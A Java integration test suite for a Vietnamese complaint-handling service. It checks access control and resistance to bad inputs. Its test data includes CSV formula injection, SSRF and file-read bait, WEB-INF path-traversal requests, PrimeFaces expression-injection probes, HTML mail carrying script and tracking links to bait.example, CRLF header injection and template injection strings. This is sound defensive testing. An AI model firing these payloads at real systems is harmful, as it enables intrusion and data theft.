package vn.langnghe.rights;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.time.YearMonth;
import java.time.format.DateTimeFormatter;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.langnghe.mail.listener.SmtpTalk;
import vn.langnghe.platform.Now;
import vn.langnghe.platform.ToolDatabase;
import vn.langnghe.testing.CsvRows;
import vn.langnghe.testing.Http;
import vn.langnghe.testing.Http.Reply;
import vn.langnghe.testing.RunningService;
import vn.langnghe.web.AtTheDesk;
import vn.langnghe.web.account.Colleague;

/**
 * Rows S01–S30 of the catalogue of bad inputs for staff, each by its id. Not here: S06 (nothing is pushed to anybody),
 * S03 (no act on several cases at once), S29 (staff upload nothing).
 * S16 in fifty variants is {@code RevealMisuseIT}, the accounts of S17, S23 and S24 are {@code web.account}.
 */
class RowsS01ToS30IT {
    private static final RunningService SERVICE = RunningService.get();
    private static final String UNKNOWN = "PY-2026-999999";
    private static final Pattern FILE =
            Pattern.compile("href=\"/desk/attachment\\?number=[^&\"]+&(?:amp;)?id=([\\w-]+)\"");
    private static final AtTheDesk TRIAGE = AtTheDesk.as("triage");
    private static final AtTheDesk OFFICE = AtTheDesk.as("internal-affairs");
    private static final AtTheDesk OTHER = AtTheDesk.as("reform");

    private final Http stranger = SERVICE.http();

    /** A case of a word that nothing else holds, at an office. */
    private static String caseAt(String office, String word) {
        String number = AtTheDesk.newCase("Mở cửa muộn ba buổi liền " + word, "WORKING_HOURS", "UBND_BINH_SA");
        if (!office.isEmpty()) {
            assertThat(TRIAGE.press(number, "ROUTE", "office", office).status()).isEqualTo(302);
        }
        return number;
    }

    private static String word() {
        return "từ" + UUID.randomUUID().toString().substring(0, 8);
    }

    private static String fileOf(Reply page) {
        Matcher found = FILE.matcher(page.body());
        assertThat(found.find()).as("a file on the page").isTrue();
        return found.group(1);
    }

    private Reply api(String username, String path) {
        return stranger.get("/api/v1/" + path, "Authorization", "Bearer " + token(username));
    }

    private Reply act(String username, String number, JsonObjectBuilder action) {
        return stranger.post(
                "/api/v1/cases/" + number + "/actions", action.build(), "Authorization", "Bearer " + token(username));
    }

    private String token(String username) {
        var account = Json.createObjectBuilder().add("username", username).add("password", "lang-nghe-demo");
        return stranger.post("/api/v1/tokens", account.build()).json().getString("token");
    }

    private static JsonObjectBuilder action(String name, int version) {
        return Json.createObjectBuilder().add("action", name).add("version", version);
    }

    private static void same(Function<String, Reply> door, String number) {
        Reply foreign = door.apply(number);
        Reply missing = door.apply(UNKNOWN);
        assertThat(foreign.status()).isEqualTo(404).isEqualTo(missing.status());
        assertThat(foreign.body()).isEqualTo(missing.body().replace(UNKNOWN, number));
    }

    @ParameterizedTest
    @ValueSource(strings = {"case", "redact", "paper", "reveal"})
    void s01AForeignCaseIsAsOneThatDoesNotExist(String page) {
        String number = caseAt("PNV", "khác");
        same(each -> OTHER.get("/desk/" + page + "?number=" + each), number);
        if (!page.equals("paper")) {
            same(each -> OTHER.post("/desk/" + page, Map.of("number", each, "act", "NOTE", "version", "1")), number);
        }
    }

    @Test
    void s01AForeignCaseIsAsOneThatDoesNotExistForPrograms() {
        String number = caseAt("PNV", "khác");
        same(each -> api("reform", "cases/" + each), number);
        same(each -> act("reform", each, action("ACCEPT", 1)), number);
    }

    @Test
    void s02AFileOfAnotherCaseIsNotThere() {
        String foreign = caseAt("PNV", "một");
        String own = caseAt("CCHC", "hai");
        String file = fileOf(OFFICE.open(foreign));
        Function<String, Reply> ofOwn = id -> OTHER.get("/desk/attachment?number=" + own + "&id=" + id);
        Reply missing = ofOwn.apply("AAAAAAAAAAAAAAAAAAAAAA");
        assertThat(ofOwn.apply(file).status()).isEqualTo(404);
        assertThat(ofOwn.apply(file).body()).isEqualTo(missing.body());
        same(each -> OTHER.get("/desk/attachment?number=" + each + "&id=" + file), foreign);
        assertThat(api("reform", "cases/" + own + "/attachments/" + file).status())
                .isEqualTo(404);
        assertThat(api("internal-affairs", "cases/" + foreign + "/attachments/" + file)
                        .status())
                .isEqualTo(200);
    }

    @Test
    void s04NoListCountOrOrderTellsOfAForeignCase() {
        String word = word();
        String number = caseAt("PNV", word);
        assertThat(OFFICE.get("/desk/queue?view=all&text=" + encode(word)).body())
                .contains(number);
        for (String sort : List.of("due", "received", "number", "office")) {
            String found = OTHER.get("/desk/queue?view=all&sort=" + sort + "&text=" + encode(word))
                    .body();
            String nothing = OTHER.get("/desk/queue?view=all&sort=" + sort + "&text=" + encode(word + "0"))
                    .body();
            assertThat(found).doesNotContain(number);
            assertThat(found.replace(word, "").replace(encode(word), ""))
                    .isEqualTo(nothing.replace(word + "0", "").replace(encode(word + "0"), ""));
        }
        JsonObject items = api("reform", "cases?q=" + encode(word)).json();
        assertThat(items.getJsonArray("items")).isEmpty();
        assertThat(items.toString()).doesNotContain(number);
    }

    @ParameterizedTest
    @ValueSource(strings = {"sort=identity.name", "sortField=identity.name", "filters%5Bidentity.phone%5D=09"})
    void s05OnlyOfferedColumnsSortAndFilter(String query) {
        assertThat(api("triage", "cases?" + query).status()).isEqualTo(400);
        Reply page = TRIAGE.get("/desk/queue?view=all&" + query);
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.body()).doesNotContain("identity.phone");
    }

    @Test
    void s07NoCellOfAnExportIsAFormula() {
        for (String bait : List.of("=HYPERLINK(\"http://x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1")) {
            String why = bait + " nói \"rõ\" lý do\r\nở hai dòng";
            Reply file = TRIAGE.post("/desk/export", Map.of("text", bait, "purpose", why, "document", "=1"));
            assertThat(file.status()).as(bait).isEqualTo(200);
            assertThat(file.bytes()).startsWith(0xEF, 0xBB, 0xBF);
            List<List<String>> rows = CsvRows.of(file.body());
            assertThat(rows.stream().flatMap(List::stream)).noneMatch(cell -> cell.matches("(?s)[\\s]*[=+\\-@].*"));
            assertThat(rows.get(3).get(1)).isEqualTo("'" + why.strip().replace("\r\n", "\n"));
            assertThat(rows.get(4).get(1)).isEqualTo("'=1");
        }
    }

    @Test
    void s08NothingIsFetchedForAPaper() {
        String bait =
                "<img src=\"file:///etc/passwd\"><iframe src='http://169.254.169.254/'> jar:file:/x!/y php://input";
        var body = Json.createObjectBuilder()
                .add("text", bait + " quyết định trái luật")
                .add("kind", "KHIEU_NAI")
                .add("category", "ADMIN_ACT")
                .add("identity", Json.createObjectBuilder().add("mode", "ANONYMOUS"));
        String number =
                stranger.post("/api/v1/submissions", body.build()).json().getString("caseNumber");
        for (String page : List.of("/desk/paper?number=", "/desk/case?number=")) {
            Reply reply = TRIAGE.get(page + number);
            assertThat(reply.status()).as(page).isIn(200, 404);
            assertThat(reply.body())
                    .doesNotContain("<img src=\"file:", "root:x:0")
                    .doesNotContain("<iframe src='http");
        }
        assertThat(TRIAGE.open(number).body()).contains("&lt;img src=");
    }

    @Test
    void s09NoCaseIsLinkedToOneThatIsNotMine() {
        String own = caseAt("", "của tôi");
        String hidden = AtTheDesk.newCase("Ban tiếp nhận đóng cửa", "WORKING_HOURS", "BTN");
        assertThat(TRIAGE.open(hidden).status()).isEqualTo(404);
        Reply foreign = TRIAGE.press(own, "FOLLOW", "primary", hidden);
        Reply missing = TRIAGE.press(own, "FOLLOW", "primary", UNKNOWN);
        assertThat(foreign.status()).isEqualTo(missing.status()).isIn(404, 409, 422);
        assertThat(foreign.body()).isEqualTo(missing.body().replace(UNKNOWN, hidden));
        same(each -> TRIAGE.pressSeen("1", each, "FOLLOW", "primary", own), hidden);
        String there = caseAt("PNV", "bên kia");
        assertThat(OTHER.pressSeen("1", there, "FOLLOW", "primary", own).status())
                .isEqualTo(404);
    }

    @Test
    void s10ACallerIsNobodyThatAFieldNames() {
        var body = Json.createObjectBuilder()
                .add("text", "Đi muộn")
                .add("citizenId", "17")
                .add("identity", Json.createObjectBuilder().add("mode", "ANONYMOUS"));
        assertThat(stranger.post("/api/v1/submissions", body.build()).status()).isEqualTo(400);
        long before = identities();
        AtTheDesk operator = AtTheDesk.as("operator");
        Matcher key = Pattern.compile("name=\"sheet\" value=\"([\\w-]{22})\"")
                .matcher(operator.get("/operator/call").body());
        assertThat(key.find()).isTrue();
        Map<String, String> sheet = new HashMap<>(Map.of("sheet", key.group(1), "do", "save", "text", "Đi muộn"));
        sheet.putAll(Map.of("mode", "ANONYMOUS", "citizenId", "17", "caseId", "17", "office", "PNV"));
        assertThat(operator.post("/operator/call", sheet).status()).isEqualTo(200);
        assertThat(identities()).isEqualTo(before);
    }

    private static long identities() {
        try (ToolDatabase database = SERVICE.database()) {
            return database.one("select count(*) as n from identity", row -> row.big("n"))
                    .orElseThrow();
        }
    }

    @Test
    void s11WhoseRightIsTakenFindsEveryButtonDead() {
        Colleague colleague = Colleague.joined("PNV", "HANDLER").login();
        String number = caseAt("PNV", "mở sẵn");
        assertThat(colleague.get("/desk/case?number=" + number).status()).isEqualTo(200);
        assertThat(colleague
                        .administered("revoke", "office", "PNV", "role", "HANDLER")
                        .status())
                .isEqualTo(302);
        for (String act : List.of("ACCEPT", "REFUSE", "NOTE", "ASK", "EXTEND", "CLASSIFY", "SUBMIT", "CLOSE")) {
            assertThat(colleague
                            .post("/desk/case", "number", number, "act", act, "version", "2", "text", "x")
                            .status())
                    .as(act)
                    .isEqualTo(404);
        }
        assertThat(colleague.get("/desk/case?number=" + number).status()).isEqualTo(404);
    }

    @Test
    void s12ACaseThatMovedIsGoneWithItsFilesForTheOldOffice() {
        String word = word();
        String number = caseAt("PNV", word);
        String file = "/desk/attachment?number=" + number + "&id=" + fileOf(OFFICE.open(number));
        assertThat(OFFICE.get(file).status()).isEqualTo(200);
        assertThat(OFFICE.press(number, "REFUSE", "ground", "OTHER_PLACE", "reason", "Không đúng thẩm quyền")
                        .status())
                .isEqualTo(302);
        assertThat(OFFICE.open(number).status()).isEqualTo(404);
        assertThat(OFFICE.get(file).status()).isEqualTo(404);
        assertThat(OFFICE.get("/desk/queue?view=all&text=" + encode(word)).body())
                .doesNotContain(number);
        assertThat(api("internal-affairs", "cases/" + number).status()).isEqualTo(404);
    }

    @Test
    void s13WhoSavesSecondSeesTheConflictAndLosesNoWord() {
        String number = caseAt("", "hai người");
        String seen = TRIAGE.version(number);
        assertThat(TRIAGE.pressSeen(seen, number, "CLASSIFY", "rank", "STAFF").status())
                .isEqualTo(302);
        Reply second = TRIAGE.pressSeen(seen, number, "NOTE", "text", "lời của người thứ hai");
        assertThat(second.status()).isEqualTo(412);
        assertThat(second.body()).contains("lời của người thứ hai");
        assertThat(TRIAGE.open(number).body()).doesNotContain("lời của người thứ hai");
    }

    @ParameterizedTest
    @ValueSource(strings = {"CLOSE", "APPROVE", "AGREE", "DISPUTE", "RESUME", "CONFIRM_TRANSFER", "REOPEN", "ISSUE"})
    void s14AnImpossibleStepIsRefusedAndNothingMoves(String act) {
        String number = caseAt("", "mới");
        int version = version(number);
        Reply refused = act("triage", number, action(act, version));
        assertThat(refused.status()).as(refused.body()).isIn(400, 409, 422);
        assertThat(version(number)).isEqualTo(version);
        assertThat(api("triage", "cases/" + number).json().getString("status")).isEqualTo("NEW");
    }

    private int version(String number) {
        return api("triage", "cases/" + number).json().getInt("version");
    }

    @Test
    void s15NobodyMovesTheirOwnDeadline() {
        String number = caseAt("PNV", "hạn");
        OFFICE.press(number, "ACCEPT");
        JsonObject before = api("internal-affairs", "cases/" + number).json();
        int version = before.getInt("version");
        for (String field : List.of("dueAt", "dueOn", "clock")) {
            assertThat(act(
                                    "internal-affairs",
                                    number,
                                    action("NOTE", version).add("text", "x").add(field, "2030-01-01"))
                            .status())
                    .isEqualTo(400);
        }
        assertThat(OFFICE.press(number, "EXTEND", "days", "5").status()).isEqualTo(422);
        OFFICE.press(number, "EXTEND", "days", "5", "reason", "Cần thêm ngày", "documentNumber", "7/TB");
        assertThat(api("internal-affairs", "cases/" + number).json().get("clocks"))
                .as("without a second person nothing moves")
                .isEqualTo(before.get("clocks"));
    }

    @Test
    void s16ANameIsNotAskedForWithoutPurpose() {
        String number = caseAt("PNV", "danh tính");
        for (String purpose : List.of("", "     ", "x")) {
            Map<String, String> form = new HashMap<>(Map.of("number", number, "act", "ask", "reason", "SEND_RESULT"));
            form.putAll(Map.of("set", "PERSON", "document", "45/QĐ-TTr", "purpose", purpose));
            assertThat(OFFICE.post("/desk/reveal", form).status()).isEqualTo(422);
        }
    }

    @Test
    void s17APlantedSessionAndOneThatWasLeftOpenNothing() {
        String planted = "0123456789abcdef0123456789ab";
        Map<String, String> login = Map.of("username", "triage", "password", "lang-nghe-demo");
        Reply in = stranger.postForm("/login", login, "Cookie", "langnghe=" + planted);
        String cookie = in.raw().headers().allValues("Set-Cookie").stream()
                .filter(one -> one.startsWith("langnghe="))
                .reduce("", (first, last) -> last);
        assertThat(cookie)
                .doesNotContain(planted)
                .containsIgnoringCase("HttpOnly")
                .containsIgnoringCase("SameSite=Strict");
        String mine = cookie.substring(0, cookie.indexOf(';'));
        assertThat(stranger.get("/desk/queue", "Cookie", mine).status()).isEqualTo(200);
        assertThat(stranger.get("/desk/queue", "Cookie", "langnghe=" + planted).status())
                .isEqualTo(302);
        stranger.postForm("/logout", Map.of(), "Cookie", mine);
        assertThat(stranger.get("/desk/queue", "Cookie", mine).status()).isEqualTo(302);
    }

    @Test
    void s18APostOfAnotherSiteIsRefused() {
        String number = caseAt("", "trang khác");
        Map<String, String> note =
                Map.of("number", number, "act", "NOTE", "version", TRIAGE.version(number), "text", "từ trang khác");
        for (String origin : List.of("null", "https://elsewhere.example", "http://127.0.0.1.elsewhere.example")) {
            assertThat(TRIAGE.post("/desk/case", note, "Origin", origin).status())
                    .isEqualTo(403);
        }
        assertThat(TRIAGE.open(number).body()).doesNotContain("từ trang khác");
        byte[] body = "{\"text\":\"x\"}".getBytes(UTF_8);
        assertThat(stranger.post("/api/v1/submissions", body, "Content-Type", "text/plain", "Origin", "null")
                        .status())
                .isEqualTo(415);
        Reply jsonp = stranger.get("/api/v1/offices?callback=alert");
        assertThat(jsonp.body()).doesNotStartWith("alert");
        assertThat(jsonp.header("X-Content-Type-Options")).isEqualTo("nosniff");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/jakarta.faces.resource/web.xml?ln=../WEB-INF",
                "/jakarta.faces.resource/web.xml.xhtml?ln=../WEB-INF",
                "/jakarta.faces.resource/web.xml.xhtml?loc=../../WEB-INF",
                "/jakarta.faces.resource/web.xml.xhtml?con=..",
                "/jakarta.faces.resource/..;/WEB-INF/web.xml",
                "/;/WEB-INF/web.xml",
                "/%2e%2e/WEB-INF/web.xml",
                "/x/%2e%2e/WEB-INF/web.xml",
                "//WEB-INF/web.xml",
                "/WEB-INF/web.xml",
                "/web-inf/web.xml",
                "/META-INF/persistence.xml",
                "/WEB-INF%2fweb.xml",
                "/%57EB-INF/web.xml"
            })
    void s19NothingOfTheInsideIsServed(String path) throws IOException {
        assertThat(raw("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
                .matches("(?s)HTTP/1.1 40[034].*")
                .doesNotContain("<servlet", "persistence-unit");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "dynamiccontent.properties.xhtml?ln=primefaces&v=1&pfdrt=sc&pfdrid=AAAAAAAAAAAAAAAAAAAAAA%3D%3D",
                "dynamiccontent.properties.xhtml?ln=primefaces&pfdrt=sc&pfdrid=%23%7B7*7%7D",
                "dynamiccontent.properties?ln=primefaces&pfdrt=sc&pfdrid=x&cmd=id"
            })
    void s20DynamicContentIsNotThere(String query) throws IOException {
        assertThat(raw("GET /jakarta.faces.resource/" + query
                        + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
                .startsWith("HTTP/1.1 404");
    }

    @Test
    void s21AMailInHtmlIsShownWithoutAnythingThatActs() throws IOException {
        String html = "<html><head><base href='https://bait.example/'><meta http-equiv=refresh"
                + " content='0;url=https://bait.example/'><style>@import 'https://bait.example/a.css';"
                + "input[value^=a]{background:url(https://bait.example/b)}</style></head><body onload=x()><p>Cửa đóng từ ba giờ.</p>"
                + "<script>location='https://bait.example'</script><form action='https://bait.example'><input></form>"
                + "<img src='https://bait.example/p.gif'><img src='cid:me@x'><object data='https://bait.example'></object>"
                + "<img src='data:image/svg+xml;base64,PHN2Zz4='><svg onload=x()></svg>"
                + "<a href='javascript:alert(1)'>Nhấn vào đây</a>";
        Reply page = shown(html);
        Matcher frame = Pattern.compile("<iframe[^>]*sandbox=\"\"[^>]*srcdoc=\"([^\"]*)\"")
                .matcher(page.body());
        assertThat(frame.find()).as("a frame that may do nothing").isTrue();
        assertThat(frame.group(1))
                .contains("Cửa đóng từ ba giờ.")
                .doesNotContain("bait.example/p", "bait.example/a", "bait.example/b", "bait.example/&quot;")
                .doesNotContainIgnoringCase("script&gt;")
                .doesNotContainIgnoringCase("&lt;meta http-equiv=&quot;refresh")
                .doesNotContainIgnoringCase("&lt;script")
                .doesNotContainIgnoringCase("&lt;form")
                .doesNotContainIgnoringCase("&lt;base")
                .doesNotContainIgnoringCase("&lt;svg")
                .doesNotContainIgnoringCase("javascript:")
                .doesNotContainIgnoringCase("onload");
    }

    @Test
    void s21AMailNestedToHurtIsReadAsWords() throws IOException {
        assertThat(shown("<html><body><p>Cửa đóng từ ba giờ.</p>" + "<div>".repeat(50_000))
                        .body())
                .contains("Cửa đóng từ ba giờ.")
                .doesNotContain("<iframe");
    }

    private static Reply shown(String html) throws IOException {
        String item = mailed("Content-Type: text/html; charset=UTF-8\r\n\r\n" + html.replaceAll("(.{900})", "$1\r\n"));
        Reply page = TRIAGE.get("/desk/mailroom?tab=all&show=html&mail=" + item);
        assertThat(page.status()).isEqualTo(200);
        return page;
    }

    private static String mailed(String rest) throws IOException {
        String id = UUID.randomUUID().toString().substring(0, 8);
        String from = "nguoi." + id + "@example.org";
        try (SmtpTalk talk = new SmtpTalk(SERVICE.smtpPort())) {
            talk.begin(from, "phananh@localhost");
            String mail = "From: <" + from + ">\r\nTo: phananh@localhost\r\nSubject: Thu " + id
                    + "\r\nMIME-Version: 1.0\r\n" + rest;
            assertThat(talk.data(mail.getBytes(UTF_8))).startsWith("250");
        }
        try (ToolDatabase database = SERVICE.database()) {
            return database.one("select id as v from mail_item order by seq desc limit 1", row -> row.text("v"))
                    .orElseThrow();
        }
    }

    @Test
    void s22TheNameOfADownloadIsOneHeaderLine() {
        String name = "giấy\r\nSet-Cookie: x=1; \"%22%0d%0a;.txt";
        var body = Json.createObjectBuilder()
                .add("text", "Có giấy kèm theo")
                .add("category", "WORKING_HOURS")
                .add("identity", Json.createObjectBuilder().add("mode", "ANONYMOUS"))
                .add(
                        "attachments",
                        Json.createArrayBuilder()
                                .add(Json.createObjectBuilder()
                                        .add("name", name)
                                        .add("base64", "Z2nhuqV5")));
        Reply taken = stranger.post("/api/v1/submissions", body.build());
        assertThat(taken.status()).as(taken.body()).isEqualTo(201);
        String number = taken.json().getString("caseNumber");
        Reply file = TRIAGE.get("/desk/attachment?number=" + number + "&id=" + fileOf(TRIAGE.open(number)));
        assertThat(file.status()).isEqualTo(200);
        assertThat(file.raw().headers().firstValue("Set-Cookie").orElse("")).doesNotContain("x=1");
        assertThat(file.header("Content-Disposition"))
                .startsWith("attachment; ")
                .contains("filename*=UTF-8''")
                .matches("[\\x20-\\x7e]+");
    }

    @Test
    void s23AnInvitationIsGoodOnceForOnePerson() {
        String key = Colleague.invite("v" + UUID.randomUUID().toString().substring(0, 12), "PNV", "HANDLER");
        Map<String, String> form = Map.of(
                "key",
                key,
                "username",
                "admin",
                "displayName",
                "Lê Văn Mới",
                "fresh",
                "một câu khác dài",
                "again",
                "một câu khác dài");
        assertThat(stranger.postForm("/invitation", form).status()).isEqualTo(302);
        assertThat(stranger.postForm("/invitation", form).status()).isEqualTo(404);
        assertThat(stranger.get("/invitation?key=" + key).status()).isEqualTo(404);
        assertThat(stranger.postForm("/login", Map.of("username", "admin", "password", "một câu khác dài"))
                        .status())
                .as("not another one's account")
                .isEqualTo(200);
    }

    @Test
    void s24AnUnknownAccountAndALongPasswordAreAnsweredAlike() {
        String known = Colleague.joined("PNV", "HANDLER").username();
        String unknown = "u" + UUID.randomUUID().toString().substring(0, 12);
        for (String password : List.of("wrong password", "x".repeat(100_000))) {
            Reply one = stranger.postForm("/login", Map.of("username", known, "password", password));
            Reply other = stranger.postForm("/login", Map.of("username", unknown, "password", password));
            assertThat(one.status()).isEqualTo(200).isEqualTo(other.status());
            assertThat(one.body().replace(known, "")).isEqualTo(other.body().replace(unknown, ""));
        }
    }

    @Test
    void s25TheAdministratorReadsNoCaseAndTheDatabaseNoDenunciation() {
        String word = word();
        var body = Json.createObjectBuilder()
                .add("text", "Ông trưởng phòng nhận tiền " + word)
                .add("kind", "TO_CAO")
                .add("category", "BRIBERY")
                .add(
                        "identity",
                        Json.createObjectBuilder().add("mode", "SEALED").add("name", "Lê " + word));
        String number =
                stranger.post("/api/v1/submissions", body.build()).json().getString("caseNumber");
        AtTheDesk admin = AtTheDesk.as("admin");
        same(each -> admin.open(each), number);
        assertThat(admin.get("/desk/queue").status()).isEqualTo(404);
        assertThat(admin.get("/desk/mailroom").status()).isEqualTo(404);
        assertThat(api("admin", "cases?q=" + encode(word)).body()).doesNotContain(number);
        try (ToolDatabase database = SERVICE.database()) {
            assertThat(database.list(
                            "select concat_ws('', c.title, c.story, c.place, c.subject_name, s.body) as v from case_file c"
                                    + " left join case_search s on s.case_id = c.id where c.number = ?",
                            row -> row.text("v"),
                            number))
                    .noneMatch(text -> text.contains(word) || text.contains("tien"));
        }
    }

    @Test
    void s26HistoryIsNotRewritten() {
        try (ToolDatabase database = SERVICE.database()) {
            for (String act : List.of(
                    "update ledger_entry set actor = 'nobody' limit 1",
                    "delete from ledger_entry limit 1",
                    "delete from ledger_head")) {
                assertThatThrownBy(() -> database.update(act)).as(act).isInstanceOf(RuntimeException.class);
            }
        }
    }

    @Test
    void s27ASmallFigureIsNotShownNorOneThatWouldTellIt() throws InterruptedException {
        YearMonth month = YearMonth.now(Now.ZONE).minusMonths(9);
        Map<String, String> groups = new TreeMap<>(Map.of("DISCIPLINE", "ALCOHOL", "CONDUCT", "ATTITUDE"));
        groups.putAll(Map.of("INTEGRITY", "BRIBERY", "OTHER", "PRAISE", "DOSSIER", "WRONG_FEE"));
        try (Past past = new Past()) {
            for (int i = 1; i <= 12; i++) {
                YearMonth each = YearMonth.now(Now.ZONE).minusMonths(i);
                groups.forEach((group, category) -> {
                    if (!each.equals(month) || !group.equals("DOSSIER")) {
                        past.month(each, category, "OPEN", 30, 20, 12);
                        past.month(each, category, "RESTRICTED", 4, 0, 0);
                        past.month(each, category, "SEALED", 3, 0, 0);
                    }
                });
            }
            past.month(month, "WRONG_FEE", "OPEN", 3, 3, 3);
            for (int i = 0; i < 35 && !figures("", month).get(0).equals("151"); i++) {
                Thread.sleep(1_000); // the page keeps its figures for half a minute
            }
            assertThat(figures("", month)).containsExactly("151", "83", "51");
            Map<String, List<String>> shown = new TreeMap<>();
            groups.keySet().forEach(group -> shown.put(group, figures(group, month)));
            assertThat(shown.remove("DOSSIER")).containsExactly("dưới 5", "dưới 5", "dưới 5");
            for (int measure = 0; measure < 3; measure++) {
                String whole = List.of("37", "20", "12").get(measure);
                int at = measure;
                assertThat(shown.values().stream().map(row -> row.get(at)))
                        .as("each case counts as one; one figure hides the small one")
                        .containsExactlyInAnyOrder("ẩn", whole, whole, whole);
            }
        }
    }

    /** The counts of a group in a month. */
    private List<String> figures(String group, YearMonth month) {
        String page = stranger.get("/figures?group=" + group).body();
        assertThat(page).doesNotContainPattern("<td>[0-4]</td>");
        Matcher line = Pattern.compile(month.format(DateTimeFormatter.ofPattern("MM/uuuu"))
                        + "</th><td>([^<]*)</td><td>([^<]*)</td><td>([^<]*)</td>")
                .matcher(page);
        assertThat(line.find()).isTrue();
        return List.of(line.group(1), line.group(2), line.group(3));
    }

    @Test
    void s28ATemplateInAWordIsAWord() {
        String bait = "#{7*7} ${7*7} {{7*7}} <h:outputText value='#{1+1}'/> %{7*7}";
        String number = AtTheDesk.newCase("Chờ lâu " + bait, "WORKING_HOURS", "UBND_BINH_SA");
        assertThat(TRIAGE.press(number, "NOTE", "text", "ghi: " + bait).status())
                .isEqualTo(302);
        String page = TRIAGE.open(number).body();
        assertThat(page.split(Pattern.quote("#{7*7} ${7*7} {{7*7}}"), -1).length)
                .isGreaterThanOrEqualTo(3);
        assertThat(page).doesNotContain("ghi: 49", "Chờ lâu 49", "<h:outputText");
    }

    @Test
    void s30TheAccusedSideKnowsOfNothingAndIsNotChosen() {
        String word = word();
        String number = AtTheDesk.newCase("Phòng Nội vụ trễ hẹn " + word, "WORKING_HOURS", "PNV");
        assertThat(api("triage", "cases/" + number)
                        .json()
                        .getJsonObject("suggestion")
                        .getString("office"))
                .isNotEqualTo("PNV");
        assertThat(TRIAGE.press(number, "ROUTE", "office", "PNV").status()).isIn(409, 422);
        assertThat(TRIAGE.press(number, "INSPECT", "reason", "Liên quan đơn vị thụ lý")
                        .status())
                .isEqualTo(302);
        assertThat(AtTheDesk.as("inspector").open(number).status()).isEqualTo(200);
        same(each -> OFFICE.open(each), number);
        assertThat(OFFICE.get("/desk/queue?view=all&text=" + encode(word)).body())
                .doesNotContain(number);
    }

    private static String encode(String text) {
        return java.net.URLEncoder.encode(text, UTF_8);
    }

    private static String raw(String request) throws IOException {
        URI url = URI.create(SERVICE.url());
        try (Socket socket = new Socket(url.getHost(), url.getPort())) {
            socket.setSoTimeout(20_000);
            socket.getOutputStream().write(request.getBytes(UTF_8));
            ByteArrayOutputStream all = new ByteArrayOutputStream();
            socket.getInputStream().transferTo(all);
            return all.toString(UTF_8);
        }
    }
}
